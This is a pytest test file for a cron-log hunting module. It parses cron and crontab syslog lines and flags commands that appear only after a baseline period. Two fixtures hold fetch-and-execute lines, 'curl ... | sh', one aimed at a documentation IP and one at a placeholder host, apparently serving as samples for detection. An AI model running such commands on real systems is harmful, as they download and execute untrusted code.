"""cron runs and crontab edits, from plaso's cron samples and cron's own wording."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from hunting.analysis.cron import cron_events, new_cron_commands
from hunting.schema import CRON, SYSLOG
from tests.analysis.test_logons import syslog_from_lines, syslog_from_traditional


def test_cron_events_plaso_cron_log(shared_data: Path) -> None:
    events = cron_events(syslog_from_traditional(shared_data / "plaso" / "syslog" / "syslog_cron.log"))
    assert list(events.columns) == CRON.names
    # grep -c CMD syslog_cron.log = 9, all "(root) CMD (...)".
    assert len(events) == 9
    assert set(events["Action"]) == {"run"} and set(events["User"]) == {"root"}
    assert sorted(events["Command"].unique()) == [
        "/sbin/status.mycheck",
        "sleep $(( 1 * 60 )); touch /tmp/afile.txt",
        "touch /tmp/afile.txt",
        "touch /var/run/crond.somecheck",
    ]


def test_cron_events_plaso_syslog_keeps_inner_parenthesis(shared_data: Path) -> None:
    events = cron_events(syslog_from_traditional(shared_data / "plaso" / "syslog" / "syslog"))
    # grep CMD syslog: 3 lines; the last ends "))": cron wrapped a command that kept its own ")".
    assert list(events["Command"]) == [
        "touch /var/run/crond.somecheck", "touch /var/run/crond.somecheck", "/sbin/status.mycheck)",
    ]  # fmt: skip
    assert sorted(events["ProcessID"].unique()) == [31051, 31067, 31068]
    assert "(CRON) INFO" not in " ".join(events["SyslogMessage"])  # daemon notices are not events


def test_cron_events_crontab_and_reload_and_rhel() -> None:
    df = syslog_from_lines(
        [
            "h crontab[200]: (alice) BEGIN EDIT (alice)",
            "h crontab[200]: (alice) REPLACE (alice)",
            "h crontab[200]: (alice) END EDIT (alice)",
            "h crontab[201]: (root) DELETE (bob)",
            "h crontab[202]: (root) LIST (bob)",
            "h cron[1]: (*system*) RELOAD (/etc/cron.d/x)",
            "h CROND[300]: (root) CMD (run-parts /etc/cron.hourly)",
            "h crond[1]: (CRON) INFO (running with inotify support)",
        ]
    )
    events = cron_events(df)
    assert list(events["Action"]) == ["begin_edit", "replace", "end_edit", "delete", "list", "reload", "run"]
    assert list(events["User"]) == ["alice", "alice", "alice", "root", "root", "*system*", "root"]
    assert list(events["Command"])[3:] == ["bob", "bob", "/etc/cron.d/x", "run-parts /etc/cron.hourly"]


def test_cron_events_hostile_and_empty() -> None:
    df = syslog_from_lines(
        [
            'h CRON[1]: (www-data) CMD (curl http://x/<script>|sh # ) (")',
            "h CRON[2]: (root) CMD",
            "h CRON[3]: ",
        ]
    )
    events = cron_events(df)
    assert list(events["Command"]) == ['curl http://x/<script>|sh # ) ("']
    assert list(cron_events(SYSLOG.empty()).columns) == CRON.names


def _runs(spec: list[tuple[str, str, str]]) -> pd.DataFrame:
    lines = [f"h CRON[{i}]: ({user}) CMD ({cmd})" for i, (_, user, cmd) in enumerate(spec)]
    df = syslog_from_lines(lines)
    df["TimeGenerated"] = pd.to_datetime([t for t, _, _ in spec], utc=True)
    return cron_events(df)


def test_new_cron_commands_after_baseline() -> None:
    events = _runs(
        [
            ("2024-05-01 00:00", "root", "run-parts /etc/cron.hourly"),
            ("2024-05-01 01:00", "root", "run-parts /etc/cron.hourly"),
            ("2024-05-02 01:00", "root", "run-parts /etc/cron.hourly"),
            ("2024-05-02 01:05", "www-data", "curl -s http://203.0.113.9/x | sh"),
            ("2024-05-02 01:10", "www-data", "curl -s http://203.0.113.9/x | sh"),
            ("2024-05-02 02:00", "root", "/tmp/.x"),
        ]
    )
    new = new_cron_commands(events, baseline_end="2024-05-01 12:00")
    assert list(new["Command"]) == ["curl -s http://203.0.113.9/x | sh", "/tmp/.x"]
    assert list(new["Runs"]) == [2, 1]
    assert list(new["NewUser"]) == [True, False]
    assert list(new["BaselineCommands"]) == [1, 1]
    assert new.iloc[0]["FirstSeen"] == pd.Timestamp("2024-05-02 01:05", tz="UTC")
    assert new.iloc[0]["LastSeen"] == pd.Timestamp("2024-05-02 01:10", tz="UTC")


@pytest.mark.parametrize("end", ["2024-06-01", pd.Timestamp("2024-06-01", tz="Europe/Paris")])
def test_new_cron_commands_nothing_after(end: object) -> None:
    events = _runs([("2024-05-01 00:00", "root", "x")])
    assert new_cron_commands(events, baseline_end=end).empty  # type: ignore[arg-type]
